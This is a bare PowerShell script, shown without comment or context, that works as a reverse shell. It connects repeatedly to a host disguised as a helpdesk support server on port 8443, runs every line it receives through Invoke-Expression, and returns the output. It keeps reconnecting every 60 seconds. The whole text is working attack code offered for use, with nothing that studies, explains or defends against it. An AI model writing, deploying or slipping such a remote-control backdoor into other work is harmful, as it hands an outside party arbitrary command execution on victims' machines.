$server = "support.helpdesk-remote.com"
$port = 8443
while ($true) {
  try {
    $client = New-Object Net.Sockets.TcpClient($server, $port)
    $stream = $client.GetStream()
    $reader = New-Object IO.StreamReader($stream)
    $writer = New-Object IO.StreamWriter($stream); $writer.AutoFlush = $true
    while ($client.Connected) {
      $cmd = $reader.ReadLine()
      if ($cmd -eq $null) { break }
      $out = try { Invoke-Expression $cmd 2>&1 | Out-String } catch { $_ | Out-String }
      $writer.WriteLine($out)
    }
  } catch { Start-Sleep -Seconds 60 }
}
